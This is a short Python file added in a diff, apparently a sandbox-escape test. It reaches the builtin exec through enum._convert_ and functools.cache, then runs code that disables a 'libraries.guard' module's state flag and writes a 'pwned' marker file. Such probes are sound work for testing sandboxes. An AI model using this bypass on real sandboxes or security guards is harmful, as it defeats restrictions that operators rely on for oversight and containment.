@@ -1,0 +1,21 @@
+"""file: an enumeration's members are builtins; functools.cache calls one of them."""
+
+import enum
+import functools
+
+CODE = """\
+import sys
+for n, m in [*sys.modules.items()]:
+    if n.endswith("libraries.guard"):
+        m._State["on"] = False
+open("pwned_converted_members_cached", "w").close()
+"""
+
+
+class Kind(enum.Enum):
+    pass
+
+
+Found = Kind._convert_("Found", "builtins", lambda name: name in ("exec", "abs"))
+run = functools.cache(Found["exec"].value)
+x = run(CODE)
